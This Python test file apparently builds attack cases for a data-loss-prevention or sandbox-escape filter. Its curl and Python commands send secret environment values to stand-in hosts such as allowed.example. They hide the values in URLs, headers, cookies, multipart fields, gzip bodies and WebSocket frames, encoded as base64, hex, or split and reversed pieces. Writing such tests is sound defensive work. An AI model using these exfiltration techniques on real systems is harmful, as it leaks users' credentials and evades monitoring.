"""Attacks that write a secret into what goes to an allowed host, in all the places and forms of it."""

from __future__ import annotations

import base64

from tests.attacks.escape.attack import VALUE, Attack, curl, python
from tests.attacks.escape.bottles import GENERIC_NAME, SECRETS


def places() -> list[Attack]:
    """A secret in a request to a host that is allowed."""
    out = []
    url = "https://allowed.example"
    for name, value in SECRETS.items():
        mark = (value.encode(),)
        for where, words in (
            ("path", f'{url}/"${name}"'),
            ("query", f'"{url}/?q=${name}"'),
            ("body", f'-d "note=${name}" {url}/'),
            ("header", f'-H "X-Note: ${name}" {url}/'),
        ):
            out.append(Attack(f"{name} in the {where}", curl(words), mark, ("dlp",)))
    var = f"${GENERIC_NAME}"
    plain = {
        "passthrough": f'-d "note={var}" https://pass.example/',
        "passthrough query": f'"https://pass.example/?q={var}"',
        "clear text": f'-d "note={var}" http://allowed.example/',
        "cookie": f'-b "s={var}" {url}/',
        "referer": f'-e "http://x/{var}" {url}/',
        "user agent": f'-A "{var}" {url}/',
        "header name": f'-H "X-{var}: 1" {url}/',
        "chunked": f'-H "Transfer-Encoding: chunked" -d "note={var}" {url}/',
        "HTTP/2 body": f'--http2 -d "note={var}" {url}/',
        "HTTP/2 header": f'--http2 -H "x-note: {var}" {url}/',
        "multipart": f'-F "file=@-;filename=a.txt" {url}/ <<END\n{var}\nEND\n:',
        "multipart name": f'-F "{var}=1" {url}/',
        "multipart file name": f'-F "file=@/dev/null;filename={var}" {url}/',
        "wildcard host": f'-d "note={var}" https://docs.wild.example/',
    }
    out += [Attack(f"secret: {name}", curl(words), (VALUE,), ("dlp",)) for name, words in plain.items()]
    zipped = f'printf "{"x" * 200} {var}" | gzip -c | ' + curl(f"-H 'Content-Encoding: gzip' --data-binary @- {url}/")
    out.append(Attack("secret: gzip body", zipped, (VALUE,), ("dlp",)))
    return out


def forms() -> list[Attack]:
    """The secret, written differently."""
    b64, half = base64.b64encode(VALUE), len(VALUE) // 2
    json = 'json.dumps({"a": S[:H], "b": {"c": [1, S[H:]]}})'
    ways: dict[str, tuple[str, tuple[bytes, ...]]] = {
        "base64": ("base64.b64encode(B)", (b64,)),
        "base64 of more": ("base64.b64encode(b'ab' + B + b'more text')", (base64.b64encode(b"ab" + VALUE)[:40],)),
        "base64 twice": ("base64.b64encode(base64.b64encode(B))", (base64.b64encode(b64),)),
        "base32": ("base64.b32encode(B)", (base64.b32encode(VALUE),)),
        "hex": ("B.hex().encode()", (VALUE.hex().encode(),)),
        "reversed": ("B[::-1]", (VALUE[::-1],)),
        "upper case": ("B.upper()", (VALUE.upper(),)),
        "dashes": ("'-'.join(S[i:i+5] for i in range(0, len(S), 5)).encode()", (b"-".join([VALUE[:5], VALUE[5:10]]),)),
        "percent": ("''.join('%%%02x' % c for c in B).encode()", (b"".join(b"%%%02x" % c for c in VALUE),)),
        "JSON escapes": (r"""('{"a": "' + ''.join('\\u%04x' % c for c in B) + '"}').encode()""", (b"\\u006b\\u0076",)),
        "split over JSON": (f"{json}.encode()", (VALUE[:half], VALUE[half:])),
        "split over lines": ("b'\\n'.join(B[i:i+8] for i in range(0, len(B), 8))", (VALUE[:8] + b"\n" + VALUE[8:16],)),
        "gzip in base64": ("base64.b64encode(gzip.compress(B, mtime=0))", (b"H4sI",)),
    }
    start = "import base64, gzip, json, urllib.request\nB = S.encode()\nH = len(S) // 2\n"
    send = "\ntry:\n    print(urllib.request.urlopen(urllib.request.Request('https://allowed.example/f', data)).status)"
    send += "\nexcept urllib.error.HTTPError as error:\n    print(error.code, error.read().decode())"
    out = [
        Attack(f"form: {name}", python(f"{start}data = {code}{send}"), marks, ("dlp",))
        for name, (code, marks) in ways.items()
    ]
    split = "import urllib.request\nn = len(S) // 3\nu = 'https://allowed.example/?a=%s&b=%s&c=%s'"
    split += " % (S[:n], S[n:2 * n], S[2 * n:])\ndata = None" + send.replace("'https://allowed.example/f'", "u")
    third = len(VALUE) // 3
    marks = (b"a=" + VALUE[:third], b"&b=" + VALUE[third : 2 * third], b"&c=" + VALUE[2 * third :])
    return [*out, Attack("form: split over a query", python(split), marks, ("dlp",))]


_SOCKET = """
import base64, socket, ssl
def frame(code, data):
    return bytes([code, 0x80 | len(data)]) + bytes(4) + data
proxy = os.environ.get("https_proxy", "")
if proxy:
    host, port = proxy.split("//")[1].strip("/").split(":")
    raw = socket.create_connection((host, int(port)), 10)
    raw.sendall(b"CONNECT allowed.example:443 HTTP/1.1\\r\\nHost: allowed.example:443\\r\\n\\r\\n")
    raw.recv(4096)
else:
    raw = socket.create_connection(("allowed.example", 443), 10)
tls = ssl.create_default_context().wrap_socket(raw, server_hostname="allowed.example")
key = base64.b64encode(bytes(16)).decode()
tls.sendall(f"GET /ws HTTP/1.1\\r\\nHost: allowed.example\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n"
            f"Sec-WebSocket-Key: {key}\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n".encode())
head = b""
while b"\\r\\n\\r\\n" not in head:
    head += tls.recv(1)
print(head.split(b"\\r\\n")[0])
for code, data in FRAMES:
    tls.sendall(frame(code, data))
tls.settimeout(1)
try:
    while data := tls.recv(4096):
        print(data)
except OSError as error:
    print(error)
print("closed")
"""


def websockets() -> list[Attack]:
    half = len(VALUE) // 2
    frames: dict[str, tuple[str, tuple[bytes, ...]]] = {
        "text": ("[(0x81, S.encode())]", (b"frame " + VALUE,)),
        "binary": ("[(0x82, S.encode())]", (b"frame " + VALUE,)),
        "two messages": (
            "[(0x81, S[:len(S) // 2].encode()), (0x81, S[len(S) // 2:].encode())]",
            (b"frame " + VALUE[:half], b"frame " + VALUE[half:]),
        ),
        "ping": ("[(0x89, S.encode()), (0x81, b'after')]", (b"control " + VALUE,)),
        "close": ("[(0x88, b'\\x03\\xe8' + S.encode())]", (b"control \x03\xe8" + VALUE,)),
        "hex": ("[(0x81, S.encode().hex().encode())]", (b"frame " + VALUE.hex().encode(),)),
    }
    return [
        Attack(
            f"WebSocket: {name}",
            python(f"FRAMES = {code}\n{_SOCKET}"),
            marks,
            ("messages",),
            said=("101", "closed"),
            quiet=False,
        )
        for name, (code, marks) in frames.items()
    ]
